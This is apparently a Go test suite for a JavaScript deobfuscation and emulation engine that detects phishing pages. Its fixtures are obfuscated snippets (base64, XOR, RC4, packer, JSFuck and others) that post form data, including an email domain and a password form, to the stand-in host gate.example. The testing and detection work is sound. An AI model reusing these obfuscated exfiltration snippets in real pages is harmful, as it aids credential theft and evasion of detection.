package script

import (
	"strings"
	"testing"
)

func run(src string) Result { return Run([]Source{{Text: src}}, Options{}) }

// Every case must come to the address https://gate.example/p.php, written or called.
func TestUnwrap(t *testing.T) {
	const want = "https://gate.example/p.php"
	page := `<form action="` + want + `"></form>`
	for _, c := range []struct{ name, src, layers string }{
		{"atob", `document.write(atob("PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PC9mb3JtPg=="))`, "atob"},
		{"utf8 atob", `var a='PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUu',b='ZXhhbXBsZS9wLnBocCI+PC9mb3JtPg==';document.write(decodeURIComponent(escape(atob(a+b))));`, "atob"},
		{"unescape", `document.write(unescape("%3Cform%20action%3D%22https%3A%2F%2Fgate.example/p.php%22%3E"))`, "unescape"},
		{"charcodes", `var a=[` + codesOf(page, 3) + `];var s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i]-3)}document.write(s)`, "fromcharcode"},
		{"charcode apply", `document.write(String.fromCharCode.apply(null,[` + codesOf(page, 0) + `]))`, "fromcharcode"},
		{"charcode map", `document.body.innerHTML=[` + codesOf(page, 0) + `].map(c=>String.fromCharCode(c)).join('')`, "fromcharcode"},
		{"join", `var p=['<form ','act','ion="https:','//gate.','example/','p.php">'];document.open();document.write(p.join(''));document.close()`, "concat"},
		{"reverse", `var p='` + reversed("PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PC9mb3JtPg==") + `';document.write(atob(p.split('').reverse().join('')))`, "reverse,atob"},
		{"xor", `(function(){var d=atob('` + xorB64(page, 37) + `'),o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^37);document.write(decodeURIComponent(escape(o)))})();`, "atob,xor"},
		{"eval", `eval(atob("ZG9jdW1lbnQud3JpdGUoJzxmb3JtIGFjdGlvbj0iaHR0cHM6Ly9nYXRlLmV4YW1wbGUvcC5waHAiPicp"))`, "atob,eval"},
		{"function constructor", `[]["filter"]["constructor"]("return document")().write('<form action="https://gate.example/p.php">')`, ""},
		{"hex array", `var h=['3c666f726d20616374696f6e3d2268747470733a2f2f676174652e','6578616d706c652f702e706870223e'];document.write(h.join('').match(/../g).map(function(x){return String.fromCharCode(parseInt(x,16))}).join(''))`, "hex,fromcharcode"},
		{"fetch", `var u="https://gate"+".example/p.php";document.getElementById('f').addEventListener('submit',async e=>{e.preventDefault();await fetch(u,{method:'POST',body:new FormData(e.target)})})`, ""},
		{"xhr", `function go(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://gate.example/p.php',true);x.send(null);return false}`, ""},
		{"jquery", `$(document).ready(function(){var n=0;$('#b').click(function(ev){n++;if(n<2){$('#e').show();return false}$.ajax({type:'POST',url:atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUvcC5waHA='),data:$('#f').serialize()})})})`, "atob"},
		{"action", `document.forms['f1'].action=atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUvcC5waHA=')`, "atob"},
		{"beacon", `window.addEventListener("load",function(){navigator.sendBeacon("https://gate.example/p.php",1)})`, ""},
		{"string table", `var _0xa=['write','bG9n','PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+'];(function(t,n){var r=function(k){while(--k){t['push'](t['shift']())}};r(++n)}(_0xa,1));var _0xb=function(i){i=i-0x0;return _0xa[i]};document[_0xb('0x2')](atob(_0xb('0x1')))`, "atob"},
		{"template", "const h='gate.example';const u=`https://${h}/p.php`;function s(){return fetch(u)}", ""},
		{"class", `class K{constructor(u){this.u=u} go(){fetch(this.u)}} const k=new K('https://gate.example/p.php');k.go()`, ""},
		{"location", `setTimeout(function(){window.location.href="https://gate.example/p.php#"+btoa("x")},50)`, ""},
		{"rc4", rc4Case(page), "atob"},
	} {
		r := run(c.src)
		found, layers := "", ""
		for _, w := range r.Writes {
			if strings.Contains(w.Text, want) {
				found, layers = w.Text, strings.Join(w.Layers, ",")
			}
		}
		for _, u := range r.Calls {
			if strings.HasPrefix(u.URL, want) {
				found, layers = u.URL, strings.Join(u.Layers, ",")
			}
		}
		if found == "" {
			t.Errorf("%s: not found; %+v", c.name, r)
			continue
		}
		if c.layers != "" && !strings.HasPrefix(layers, c.layers) {
			t.Errorf("%s: layers %q, want %q", c.name, layers, c.layers)
		}
	}
}

func TestBounded(t *testing.T) {
	for _, src := range []string{
		"while(true){}", "for(;;){x+='a'}", "var s='a';while(1){s=s+s}", "function f(){f()};f()", "var a=[];while(1)a.push(a)", strings.Repeat("(", 50000), strings.Repeat("[", 50000), strings.Repeat("a=>", 20000),
		strings.Repeat("`${", 5000), "x=" + strings.Repeat("'a'+", 30000) + "'b'", "eval('eval(\"1\")')", strings.Repeat("!", 50000) + "1", strings.Repeat("{", 30000), "'a'.repeat(1e9)", "new Array(1e9)", "a:while(1){while(1){continue a}}",
		"var o={};o.a=o;document.write(o+[o,[o]])", "var s=''; for(var i=0;i<1e7;i++){s='x'+s}", "try{throw 1}catch(e){for(;;);}", strings.Repeat("if(u)", 5000) + "x()", "switch(u){case 1:" + strings.Repeat("case 2:", 2000) + "}",
	} {
		r := run(src)
		if r.Steps > 8_000_000 {
			t.Errorf("%.40q: %d steps", src, r.Steps)
		}
	}
}

func FuzzRun(f *testing.F) {
	for _, s := range []string{"document.write(atob('PGI+'))", "var a=[1,2].map(x=>x+1);eval('a')", "`${a}`", "class A{b(){}}", "for(var i of [1])switch(i){case 1:break}", "/a[/]/g.test('a')", "x?.y?.[0]??1", "[]['filter']['constructor']('return 1')()", "({a,b:{c}}=d)", "async()=>{await fetch(`${u}`)}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		Run([]Source{{Text: s}, {Text: s, Handler: true}}, Options{Steps: 100_000})
	})
}

func TestJSFuck(t *testing.T) {
	// "fetch" spelled from false, undefined and true; the constructor from a method.
	f, e, tt, c, h := "(![]+[])[+[]]", "(!![]+[])[!+[]+!+[]+!+[]]", "(!![]+[])[+[]]", "([]['flat']+[])[!+[]+!+[]+!+[]]", "'h'"
	r := run("[]['flat']['constructor']('return '+" + f + "+" + e + "+" + tt + "+" + c + "+" + h + ")()('https://gate.example/p.php')")
	if len(r.Calls) != 1 || r.Calls[0].URL != "https://gate.example/p.php" {
		t.Errorf("%+v", r)
	}
}

func TestPacker(t *testing.T) {
	r := run(`eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1("2://3.4/5")',6,6,'navigator|sendBeacon|https|gate|example|p'.split('|'),0,{}))`)
	if len(r.Calls) != 1 || r.Calls[0].URL != "https://gate.example/p" || r.Calls[0].Kind != "beacon" {
		t.Errorf("%+v", r)
	}
}

func TestUnknown(t *testing.T) {
	r := run(`var e=document.getElementById("email").value; var i=e.indexOf("@"); var d=e.substr(i+1); if(d==""){location.href="https://empty.example/"}else{fetch("https://gate.example/p?d="+d+"&x=1")} $.post("https://post.example/s",{e:e},function(r){ if(r.ok){ window.location.replace("https://done.example/") } })`)
	var got []string
	for _, c := range r.Calls {
		got = append(got, c.Kind+" "+c.URL)
	}
	want := "redirect https://empty.example/,fetch https://gate.example/p?d=,xhr https://post.example/s,redirect https://done.example/"
	if strings.Join(got, ",") != want {
		t.Errorf("got %q", got)
	}
}

func TestShape(t *testing.T) {
	a := run(`var _0xa1=['x','y','z'];function go(e){e.preventDefault();fetch('https://a.example/1',{method:'POST'})}`).Shape
	b := run(`var _0xff=['q','r','s','t','u'];function snd(ev){ev.preventDefault();fetch("https://b.example/2",{method:"POST"})}`).Shape
	c := run(`function go(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','u');x.send()}`).Shape
	if a == "" || a != b || a == c {
		t.Errorf("%s %s %s", a, b, c)
	}
}

func TestCarve(t *testing.T) {
	const b64 = "PGh0bWw+PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPjwvaHRtbD4="
	for _, src := range []string{"var a='" + b64[:40] + "';var a='" + b64[40:] + "';document.write(atob(a+a", "var x='" + reversed(b64) + "' +",
		"var c=[" + codesOf(`<html><form action="https://gate.example/p.php"><input type=password></form><p>padding to be long enough</p></html>`, 8) + "];var c='';"} {
		w := Carve([]Source{{Text: src}})
		if len(w) != 1 || !strings.Contains(w[0].Text, "https://gate.example/p.php") {
			t.Errorf("%.40q: %+v", src, w)
		}
	}
}
